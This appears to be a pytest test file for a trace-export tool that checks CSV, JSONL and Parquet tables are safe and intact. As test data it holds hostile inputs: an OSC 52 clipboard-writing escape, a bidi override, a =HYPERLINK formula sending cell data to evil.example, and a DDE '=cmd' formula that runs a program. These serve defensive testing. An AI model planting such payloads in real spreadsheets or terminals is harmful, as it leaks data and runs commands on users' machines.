"""`agentdbg export --table`: one row per step of every run of many files, as CSV, JSON
Lines or Parquet, written as it is read (Parquet in row groups)."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from agentdbg.cli import main
from agentdbg.exporters import table
from agentdbg.importers.builder import RunBuilder
from agentdbg.text import unescape_visible
from agentdbg.trace.writer import write_trace

HOSTILE = "\x1b]52;c;ZXZpbA==\x07[red]x[/] \u202eevil\ud800"


def run_events(number: int, *, error: bool = False, wrong: bool = False, observation: str = "found") -> list:
    builder = RunBuilder(f"task {number}", name=f"case {number}")
    builder.step(thought="look", tool="search", args="x", call="search[x]", observation=observation)
    if error:
        builder.step(thought="oops", tool="lookup", args="y", call="lookup[y]", error_kind="unknown_tool",
                     error_message="tool 'lookup' does not exist")
    builder.step(thought="done", answer="3" if wrong else "2")
    return builder.build(verdict={"correct": not wrong, "score": 0.0 if wrong else 1.0, "expected": "2", "grader": "em"})


@pytest.fixture
def runs_dir(tmp_path: Path) -> Path:
    root = tmp_path / "runs"
    (root / "sub").mkdir(parents=True)
    write_trace(root / "b.jsonl", [run_events(1), run_events(2, error=True, wrong=True)])
    write_trace(root / "sub" / "a.jsonl", [run_events(3, observation=HOSTILE + "y" * 5000)])
    (root / "sub" / "notes.txt").write_text("nothing to see\n", encoding="utf-8")
    return root


def export(capsys, *argv) -> tuple[int, str]:
    code = main(["export", *map(str, argv)])
    return code, capsys.readouterr().err


def test_csv_has_a_row_per_step_in_path_order(runs_dir, tmp_path, capsys):
    out = tmp_path / "steps.csv"
    code, err = export(capsys, "--table", runs_dir, "-o", out)
    assert code == 0
    assert err.splitlines()[-1] == f"wrote 7 rows (3 runs of 2 files) to {out}"
    assert "notes.txt: skipped" in err
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(table.NAMES)
    assert [(Path(r["file"]).name, r["run"], r["step"]) for r in rows] == [
        ("b.jsonl", "1", "1"), ("b.jsonl", "1", "2"), ("b.jsonl", "2", "1"), ("b.jsonl", "2", "2"),
        ("b.jsonl", "2", "3"), ("a.jsonl", "1", "1"), ("a.jsonl", "1", "2")]
    error = rows[3]
    assert (error["tool"], error["error_kind"], error["error"]) == ("lookup", "unknown_tool", "tool 'lookup' does not exist")
    assert {r["verdict"] for r in rows if r["run"] == "2" and r["file"].endswith("b.jsonl")} == {"wrong"}
    assert rows[4]["answer"] == "3" and rows[4]["outcome"] == "answered" and rows[4]["correct"] == "False"
    hostile = rows[5]["observation"]
    assert hostile.startswith("<U+001B>]52;c;ZXZpbA==<U+0007>[red]x[/] <U+202E>evil<U+D800>y")  # shown, not obeyed
    assert unescape_visible(hostile) == (HOSTILE + "y" * 5000)[:table.MAX_TEXT]  # and the exact text comes back
    assert int(rows[5]["observation_chars"]) == len(HOSTILE) + 5000


def original(cell: str) -> str:
    """The text a CSV cell holds, as docs/export.md says to read it back."""
    return unescape_visible(cell[1:] if cell.startswith("'") else cell)


FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
            "\r\n=1+1", " =1+1", "\n@x", "'=quoted", "=cmd|' /C calc'!A0"]


def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote_first_and_numbers_stay_numbers(tmp_path, capsys):
    builder = RunBuilder(FORMULAS[0], name="a;=1+1")  # a ; separates cells in some locales
    for number, formula in enumerate(FORMULAS):
        builder.step(thought=formula, tool="search", args=formula, call=f"search[{number}]", observation=formula,
                     error_kind="exception", error_message=formula)
    builder.step(thought="done", answer="-5")
    source = tmp_path / "formulas.jsonl"
    write_trace(source, [builder.build(verdict={"correct": None, "score": -0.5, "expected": "-5", "grader": "f"})])
    out = tmp_path / "steps.csv"
    assert export(capsys, "--table", source, "-o", out)[0] == 0
    text = out.read_text(encoding="utf-8")
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    texts = {name for name, kind, _ in table.COLUMNS if kind == "string"}
    for row in rows:
        for name in texts & set(row):
            cell = row[name]
            assert not cell or cell[0] not in "=+-@\t\r" and cell.lstrip()[:1] not in ("=", "+", "-", "@"), (name, cell)
    for row, formula in zip(rows, FORMULAS, strict=False):
        assert [original(row[name]) for name in ("args", "observation", "error")] == [formula] * 3
        assert original(row["thought"]) == formula.strip()  # a thought is kept stripped
        assert row["args"] == "'" + formula  # a tab and the CR of a CRLF stay as they are
    assert rows[0]["task"].startswith("'=HYPERLINK(") and original(rows[0]["run_name"]) == "a;=1+1"
    assert rows[-1]["answer"] == "'-5" and original(rows[-1]["answer"]) == "-5"  # an answer is text
    first = text.split("\n", 2)[1]
    assert first.startswith(f'"{source}",1,"a;=1+1","\'=HYPERLINK(')  # text quoted: no locale splits it at the ;
    assert first.endswith(',False,False,1,1,0,0,,,0,"answered","score -0.5",,-0.5')  # numbers stay numbers


def test_csv_shows_terminal_controls_as_code_points_and_keeps_the_exact_text(tmp_path, capsys):
    hostile = HOSTILE + "\x00nul \x9b31m c1 \u200bzw \rCR\r\ncrlf <U+001B> written out \ufeff"
    builder = RunBuilder(hostile, name=hostile)
    builder.step(thought=hostile, tool="search", args=hostile, call="search[x]", observation=hostile)
    source = tmp_path / "hostile.jsonl"
    write_trace(source, [builder.build()])
    out = tmp_path / "steps.csv"
    assert export(capsys, "--table", source, "-o", out)[0] == 0
    data = out.read_bytes()
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)|\xc2[\x80-\x9f]|\xe2\x80[\x8b\xae]|\xef\xbb\xbf", data)
    with out.open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert "<U+001B>]52;c;ZXZpbA==<U+0007>" in row["observation"] and "<U+D800>" in row["observation"]
    assert original(row["observation"]) == original(row["args"]) == original(row["task"]) == hostile


def test_jsonl_keeps_types_and_cuts_with_max_text(runs_dir, tmp_path, capsys):
    out = tmp_path / "steps.jsonl"
    assert export(capsys, "--table", runs_dir, "-o", out, "--max-text", "10")[0] == 0
    text = out.read_text(encoding="utf-8")
    assert "\x1b" not in text and "\u202e" not in text  # escaped: cat on it is inert
    rows = [json.loads(line) for line in text.splitlines()]
    assert len(rows) == 7 and rows[3]["repeat"] is False and rows[4]["score"] == 0.0
    assert rows[5]["observation"] == HOSTILE[:10] and rows[5]["observation_chars"] == len(HOSTILE) + 5000


def test_parquet_is_written_in_row_groups(runs_dir, tmp_path, capsys, monkeypatch):
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow not installed (pip install 'agentdbg[table]')")
    monkeypatch.setattr(table, "ROW_GROUP", 3)
    out = tmp_path / "steps.parquet"
    assert export(capsys, "--table", runs_dir, "-o", out)[0] == 0
    parquet = pq.ParquetFile(out)
    assert parquet.metadata.num_rows == 7 and parquet.metadata.num_row_groups == 3  # 3 + 3 + 1: never all held
    rows = parquet.read().to_pylist()
    assert rows[3]["error_kind"] == "unknown_tool" and rows[3]["step"] == 2 and rows[4]["correct"] is False
    assert parquet.schema_arrow.field("score").type == "double"


def test_parquet_without_pyarrow_says_how_to_get_it(runs_dir, tmp_path, capsys, monkeypatch):
    def missing():
        raise table.MissingDependency('writing Parquet needs pyarrow: pip install "agentdbg[table]" (or ...)')

    monkeypatch.setattr(table, "_pyarrow", missing)
    out = tmp_path / "steps.parquet"
    code, err = export(capsys, "--table", runs_dir, "-o", out)
    assert code == 2 and 'pip install "agentdbg[table]"' in err
    assert not out.exists() and not list(tmp_path.glob(".steps.parquet.*"))  # nothing half-written left


@pytest.mark.parametrize("argv, message", [
    (["-o", "x.csv"], "--table"),
    (["--table", "-o", "x.xlsx"], "say the table's format by its extension"),
    (["--table", "-o", "x.csv", "--max-text", "-1"], "--max-text -1"),
])
def test_unusable_arguments_exit_2(runs_dir, tmp_path, capsys, monkeypatch, argv, message):
    monkeypatch.chdir(tmp_path)
    code, err = export(capsys, runs_dir, *argv)
    assert code == 2 and message in err


def test_an_existing_output_needs_force(runs_dir, tmp_path, capsys):
    out = tmp_path / "steps.csv"
    out.write_text("keep me", encoding="utf-8")
    code, err = export(capsys, "--table", runs_dir, "-o", out)
    assert code == 2 and "use --force" in err and out.read_text(encoding="utf-8") == "keep me"
    assert export(capsys, "--table", runs_dir, "-o", out, "--force")[0] == 0


def test_a_named_file_that_cannot_be_read_is_trouble(runs_dir, tmp_path, capsys):
    out = tmp_path / "steps.csv"
    code, err = export(capsys, "--table", runs_dir / "b.jsonl", runs_dir / "sub" / "notes.txt", "-o", out)
    assert code == 2 and "error:" in err and "notes.txt" in err
    assert len(out.read_text(encoding="utf-8").splitlines()) == 1 + 5  # what could be read is written


def _failing_input(kind: str, tmp_path: Path) -> Path:
    if kind == "missing":
        return tmp_path / "missing.jsonl"
    if kind == "dev-zero":
        return Path("/dev/zero")
    if kind == "empty-folder":
        (tmp_path / "empty").mkdir()
        return tmp_path / "empty"
    if kind == "no-run":
        write_trace(tmp_path / "empty.jsonl", [])  # a header and nothing more
        return tmp_path / "empty.jsonl"
    path = tmp_path / "bad.json"
    path.write_text('{"not": "a run"', encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", ["missing", "dev-zero", "bad-json", "empty-folder", "no-run"])
@pytest.mark.parametrize("name", ["steps.csv", "steps.jsonl"])
def test_an_export_that_reads_nothing_leaves_the_old_output_as_it_was(kind, name, tmp_path, capsys):
    source = _failing_input(kind, tmp_path)
    out = tmp_path / name
    out.write_text("keep me", encoding="utf-8")
    code, err = export(capsys, "--table", source, "-o", out, "--force")
    assert code == 2 and f"no file could be read; {out} left as it was" in err
    assert out.read_text(encoding="utf-8") == "keep me"
    assert not list(tmp_path.glob(f".{name}.*"))  # no temporary file left
    fresh = tmp_path / f"new-{name}"
    assert export(capsys, "--table", source, "-o", fresh)[0] == 2 and not fresh.exists()


def test_an_interrupted_export_leaves_the_old_output_and_no_temporary_file(runs_dir, tmp_path, capsys, monkeypatch):
    out = tmp_path / "steps.csv"
    out.write_text("keep me", encoding="utf-8")
    rows = []

    def interrupted(self, row):
        rows.append(row)
        if len(rows) == 3:
            raise KeyboardInterrupt

    monkeypatch.setattr(table.CsvWriter, "write", interrupted)
    code, _ = export(capsys, "--table", runs_dir, "-o", out, "--force")
    assert code == 130 and len(rows) == 3  # Ctrl-C, part way through
    assert out.read_text(encoding="utf-8") == "keep me" and not list(tmp_path.glob(".steps.csv.*"))


def test_an_export_over_its_only_input_keeps_the_input(runs_dir, tmp_path, capsys):
    trace = runs_dir / "b.jsonl"
    before = trace.read_bytes()
    code, err = export(capsys, "--table", trace, "-o", trace, "--table-format", "jsonl", "--force")
    assert code == 2 and "left as it was" in err and trace.read_bytes() == before  # not an empty table
